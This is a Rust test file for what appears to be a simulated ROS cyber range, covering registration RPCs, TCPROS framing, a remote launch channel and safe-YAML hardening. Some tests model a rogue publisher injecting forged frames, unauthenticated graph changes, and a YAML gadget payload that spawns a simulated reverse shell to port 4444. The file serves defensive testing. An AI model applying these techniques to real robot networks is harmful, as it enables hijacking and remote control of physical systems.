//! Graph-over-wire integration: registration RPCs, TCPROS header exchange
//! and framing, rate-driven delivery, publisher-update fan-out, the launch
//! channel, and the reverse-shell path.

use rosrange::dissector::Classification;
use rosrange::rosgraph::{
    self, attack_launch_file, axclient_send_goal, parse_launch, remote_launch, rpc_call,
    GoalOutcome, LaunchError, MasterApp, PublisherApp, SubscriberApp, MASTER_PORT,
};
use rosrange::simnet::{Cidr, HardeningProfile, Level, SimTime, World};
use std::net::Ipv4Addr;
use std::rc::Rc;

fn ip(s: &str) -> Ipv4Addr {
    s.parse().unwrap()
}

fn cidr(s: &str) -> Cidr {
    s.parse().unwrap()
}

struct MiniGraph {
    world: World,
    master_host: usize,
    pub_host: usize,
    sub_host: usize,
    pub_app: usize,
    sub_app: usize,
}

/// Master + one publisher + one subscriber, all on one segment.
fn mini_graph(seed: u64, rate_hz: f64) -> MiniGraph {
    let mut world = World::new(seed);
    world
        .add_segment("process", Level::Process2, cidr("13.0.0.0/24"))
        .unwrap();
    let master_host = world
        .add_host("s7", &[("process", ip("13.0.0.20"))], HardeningProfile::default())
        .unwrap();
    let pub_host = world
        .add_host("s1", &[("process", ip("13.0.0.5"))], HardeningProfile::default())
        .unwrap();
    let sub_host = world
        .add_host("sub", &[("process", ip("13.0.0.6"))], HardeningProfile::default())
        .unwrap();
    let master = (ip("13.0.0.20"), MASTER_PORT);
    rosgraph::spawn(
        &mut world,
        master_host,
        Box::new(MasterApp::new(master_host, ip("13.0.0.20"))),
    );
    let period = SimTime::from_secs_f64(1.0 / rate_hz);
    let pub_app = rosgraph::spawn(
        &mut world,
        pub_host,
        Box::new(PublisherApp::new(
            "/s1_state_pub",
            "/r1/state",
            pub_host,
            ip("13.0.0.5"),
            3001,
            4001,
            Some(period),
            0,
            Some("r1".to_string()),
            master,
        )),
    );
    let sub_app = rosgraph::spawn(
        &mut world,
        sub_host,
        Box::new(SubscriberApp::new(
            "/s7_state_sub",
            "/r1/state",
            sub_host,
            ip("13.0.0.6"),
            3002,
            Some("r1".to_string()),
            master,
            None,
        )),
    );
    world.settle();
    MiniGraph {
        world,
        master_host,
        pub_host,
        sub_host,
        pub_app,
        sub_app,
    }
}

#[test]
fn registration_connects_and_streams_flow() {
    let mut g = mini_graph(11, 10.0);
    let w = &mut g.world;
    // Everything wired at t=0 through real RPC exchanges.
    let pub_app = w.app_as::<PublisherApp>(g.pub_app).unwrap();
    assert_eq!(pub_app.ready_subscribers(), 1);
    let sub_app = w.app_as::<SubscriberApp>(g.sub_app).unwrap();
    assert_eq!(sub_app.connected_streams(), 1);

    // Exactly floor(r*T) frames arrive over any whole-period window.
    w.run_for(SimTime::from_secs_f64(2.0));
    let received: Vec<u64> = w
        .rx_log
        .iter()
        .filter(|e| e.channel == "/r1/state")
        .map(|e| e.counter.unwrap())
        .collect();
    assert_eq!(received.len(), 20);
    // Counters are strictly increasing with no duplicates.
    for pair in received.windows(2) {
        assert_eq!(pair[1], pair[0] + 1);
    }
}

#[test]
fn capture_shows_handshake_header_then_bodies_in_order() {
    let mut w = World::new(12);
    w.add_segment("process", Level::Process2, cidr("13.0.0.0/24"))
        .unwrap();
    let mh = w
        .add_host("s7", &[("process", ip("13.0.0.20"))], HardeningProfile::default())
        .unwrap();
    let ph = w
        .add_host("s1", &[("process", ip("13.0.0.5"))], HardeningProfile::default())
        .unwrap();
    let sh = w
        .add_host("sub", &[("process", ip("13.0.0.6"))], HardeningProfile::default())
        .unwrap();
    let tap = w.add_tap("process").unwrap();
    let master = (ip("13.0.0.20"), MASTER_PORT);
    rosgraph::spawn(&mut w, mh, Box::new(MasterApp::new(mh, ip("13.0.0.20"))));
    rosgraph::spawn(
        &mut w,
        ph,
        Box::new(PublisherApp::new(
            "/p",
            "/r1/state",
            ph,
            ip("13.0.0.5"),
            3001,
            4001,
            Some(SimTime::from_secs_f64(0.1)),
            0,
            None,
            master,
        )),
    );
    rosgraph::spawn(
        &mut w,
        sh,
        Box::new(SubscriberApp::new(
            "/s",
            "/r1/state",
            sh,
            ip("13.0.0.6"),
            3002,
            None,
            master,
            None,
        )),
    );
    w.settle();
    w.run_for(SimTime::from_secs_f64(0.5));

    let records = w.tap_records(tap);
    // The subscriber's data connection: find SYN to port 4001, the header,
    // and the first body, and check their relative order.
    let syn_idx = records
        .iter()
        .position(|r| r.flags.syn && !r.flags.ack && r.dst_port == 4001)
        .expect("data SYN");
    let header_idx = records
        .iter()
        .position(|r| r.class == Classification::TcprosHeader && r.dst_port == 4001)
        .expect("subscriber header");
    let pub_header_idx = records
        .iter()
        .position(|r| r.class == Classification::TcprosHeader && r.src_port == 4001)
        .expect("publisher header");
    let body_idx = records
        .iter()
        .position(|r| r.class == Classification::TcprosBody && r.src_port == 4001)
        .expect("first body");
    assert!(syn_idx < header_idx);
    assert!(header_idx < pub_header_idx);
    assert!(pub_header_idx < body_idx);
    // RPC records observed too (registration).
    assert!(records.iter().any(|r| r.class == Classification::Rpc));
}

#[test]
fn rogue_publisher_fans_out_and_reaches_subscriber() {
    let mut g = mini_graph(13, 10.0);
    let w = &mut g.world;
    w.run_for(SimTime::from_secs_f64(0.3));
    let before: usize = w
        .rx_log
        .iter()
        .filter(|e| e.counter.unwrap_or(0) >= rosgraph::FORGED_COUNTER_BASE)
        .count();
    assert_eq!(before, 0);

    // The rogue registers as an additional publisher; the master's
    // publisherUpdate redirects the subscriber onto it with no credentials
    // asked anywhere.
    let rogue = rosgraph::spawn(
        w,
        g.master_host,
        Box::new(PublisherApp::new(
            "/rogue",
            "/r1/state",
            g.master_host,
            ip("13.0.0.20"),
            3100,
            4100,
            Some(SimTime::from_secs_f64(0.1)),
            rosgraph::FORGED_COUNTER_BASE,
            Some("r1".to_string()),
            (ip("13.0.0.20"), MASTER_PORT),
        )),
    );
    w.settle();
    let rogue_ready = w.app_as::<PublisherApp>(rogue).unwrap().ready_subscribers();
    assert_eq!(rogue_ready, 1, "subscriber connected to the rogue");
    w.run_for(SimTime::from_secs_f64(0.5));
    let forged: usize = w
        .rx_log
        .iter()
        .filter(|e| e.counter.unwrap_or(0) >= rosgraph::FORGED_COUNTER_BASE)
        .count();
    assert!(forged >= 4, "forged frames delivered, got {}", forged);
    // The legitimate stream is still flowing alongside.
    let legit: usize = w
        .rx_log
        .iter()
        .filter(|e| e.counter.unwrap_or(u64::MAX) < rosgraph::FORGED_COUNTER_BASE)
        .count();
    assert!(legit > 0);
}

#[test]
fn get_system_state_matches_wire_registrations() {
    let mut g = mini_graph(14, 10.0);
    let w = &mut g.world;
    let resp = rpc_call(
        w,
        g.sub_host,
        (ip("13.0.0.20"), MASTER_PORT),
        &["getSystemState".to_string(), "/probe".to_string()],
    )
    .unwrap();
    assert_eq!(resp[0], "ok");
    let state: Vec<(String, Vec<String>, Vec<String>)> = serde_json::from_str(&resp[1]).unwrap();
    assert_eq!(state.len(), 1);
    assert_eq!(state[0].0, "/r1/state");
    assert_eq!(state[0].1, vec!["/s1_state_pub".to_string()]);
    assert_eq!(state[0].2, vec!["/s7_state_sub".to_string()]);
}

#[test]
fn registration_from_unreachable_uri_is_transport_error() {
    let mut g = mini_graph(15, 10.0);
    let w = &mut g.world;
    let resp = rpc_call(
        w,
        g.pub_host,
        (ip("13.0.0.20"), MASTER_PORT),
        &[
            "registerPublisher".to_string(),
            "/ghost".to_string(),
            "/r1/state".to_string(),
            "rosrange/Counter".to_string(),
            "13.0.0.99:9999".to_string(),
        ],
    )
    .unwrap();
    assert_eq!(resp, vec!["error".to_string(), "TransportError".to_string()]);
}

#[test]
fn no_auth_anywhere_on_graph_mutating_rpcs() {
    // A host with zero sessions of any kind mutates the graph freely.
    let mut g = mini_graph(16, 10.0);
    let w = &mut g.world;
    assert!(w.host_sessions(g.sub_host).is_empty());
    let uri = format!("{}:{}", "13.0.0.6", 3002);
    let resp = rpc_call(
        w,
        g.sub_host,
        (ip("13.0.0.20"), MASTER_PORT),
        &[
            "registerPublisher".to_string(),
            "/anon".to_string(),
            "/r1/state".to_string(),
            "rosrange/Counter".to_string(),
            uri,
        ],
    )
    .unwrap();
    assert_eq!(resp[0], "ok");
}

// --- launch channel and tool --------------------------------------------------

struct LaunchWorld {
    world: World,
    d1: usize,
    s7: usize,
}

fn launch_world(preshared: bool, safe_yaml: bool) -> LaunchWorld {
    let mut world = World::new(21);
    world.add_segment("dmz", Level::Dmz3, cidr("16.0.0.0/24")).unwrap();
    world
        .add_segment("process", Level::Process2, cidr("13.0.0.0/24"))
        .unwrap();
    let d1 = world
        .add_host(
            "d1",
            &[("dmz", ip("16.0.0.30"))],
            HardeningProfile::default(),
        )
        .unwrap();
    let mut hardening = HardeningProfile {
        safe_yaml,
        ..HardeningProfile::default()
    };
    if preshared {
        hardening.preshared_keys_with.push("d1".to_string());
    }
    let s7 = world
        .add_host(
            "s7",
            &[("dmz", ip("16.0.0.20")), ("process", ip("13.0.0.20"))],
            hardening,
        )
        .unwrap();
    let registry = Rc::new(rosgraph::default_gadget_registry());
    rosgraph::spawn(
        &mut world,
        s7,
        Box::new(rosgraph::LaunchServiceApp::new(s7, registry)),
    );
    world.settle();
    LaunchWorld { world, d1, s7 }
}

#[test]
fn remote_launch_requires_preshared_keys() {
    let mut lw = launch_world(false, false);
    let spec = parse_launch(&attack_launch_file(ip("16.0.0.20"))).unwrap();
    assert!(matches!(
        remote_launch(&mut lw.world, lw.d1, &spec),
        Err(LaunchError::NoPresharedKey)
    ));
    assert!(lw.world.host_sessions(lw.s7).is_empty());
}

#[test]
fn remote_launch_grants_ros_session_and_tool_channel() {
    let mut lw = launch_world(true, false);
    let spec = parse_launch(&attack_launch_file(ip("16.0.0.20"))).unwrap();
    let tool = remote_launch(&mut lw.world, lw.d1, &spec).unwrap();
    let session = lw.world.session(tool.session).clone();
    assert_eq!(session.host, "s7");
    assert_eq!(session.user, rosrange::rosgraph::User::Ros);
    assert_eq!(session.origin, rosrange::rosgraph::Origin::RemoteLaunch);

    // Benign goal: parsed, filled, published.
    let out = axclient_send_goal(
        &mut lw.world,
        &tool,
        "/ur_hardware_interface/set_mode",
        "mode: 2",
    )
    .unwrap();
    assert_eq!(out, GoalOutcome::Ack { messages: 1 });
    assert!(lw
        .world
        .tx_log
        .iter()
        .any(|e| e.channel == "/ur_hardware_interface/set_mode/goal"));
}

#[test]
fn undefined_machine_name_errors() {
    let mut lw = launch_world(true, false);
    let text = attack_launch_file(ip("16.0.0.20")).replace("machine=\"s7\"", "machine=\"nope\"");
    let spec = parse_launch(&text).unwrap();
    assert!(matches!(
        remote_launch(&mut lw.world, lw.d1, &spec),
        Err(LaunchError::NoSuchMachine(_))
    ));
}

#[test]
fn gadget_goal_spawns_reverse_shell_on_unhardened_station() {
    let mut lw = launch_world(true, false);
    // Attacker listens for the callback first.
    let shell_app = lw.world.add_app(lw.d1, Box::new(rosgraph::ShellListenerApp { host: lw.d1 }));
    lw.world.listen(shell_app, lw.d1, ip("16.0.0.30"), 4444);
    let spec = parse_launch(&attack_launch_file(ip("16.0.0.20"))).unwrap();
    let tool = remote_launch(&mut lw.world, lw.d1, &spec).unwrap();
    let out = axclient_send_goal(
        &mut lw.world,
        &tool,
        "/ur_hardware_interface/set_mode",
        "!!obj/apply:spawn_shell ['16.0.0.30', 4444]",
    )
    .unwrap();
    match out {
        GoalOutcome::Effects(effects) => {
            assert_eq!(effects.len(), 1);
        }
        other => panic!("expected effects, got {:?}", other),
    }
    lw.world.settle();
    let sessions = lw.world.host_sessions(lw.s7);
    assert!(sessions
        .iter()
        .any(|s| s.origin == rosrange::rosgraph::Origin::ReverseShell));
    // The session survives a long idle stretch.
    lw.world.run_for(SimTime::from_secs_f64(60.0));
    let still: usize = lw
        .world
        .host_sessions(lw.s7)
        .iter()
        .filter(|s| s.origin == rosrange::rosgraph::Origin::ReverseShell)
        .count();
    assert_eq!(still, 1);
}

#[test]
fn safe_yaml_station_rejects_gadget_goal() {
    let mut lw = launch_world(true, true);
    let spec = parse_launch(&attack_launch_file(ip("16.0.0.20"))).unwrap();
    let tool = remote_launch(&mut lw.world, lw.d1, &spec).unwrap();
    let out = axclient_send_goal(
        &mut lw.world,
        &tool,
        "/ur_hardware_interface/set_mode",
        "!!obj/apply:spawn_shell ['16.0.0.30', 4444]",
    )
    .unwrap();
    assert!(matches!(out, GoalOutcome::Rejected { .. }));
    // Benign goals still work through safe parsing.
    let out = axclient_send_goal(&mut lw.world, &tool, "/ur_hardware_interface/set_mode", "mode: 2")
        .unwrap();
    assert_eq!(out, GoalOutcome::Ack { messages: 1 });
    // No reverse shell, no extra session beyond the launch one.
    assert_eq!(lw.world.host_sessions(lw.s7).len(), 1);
}
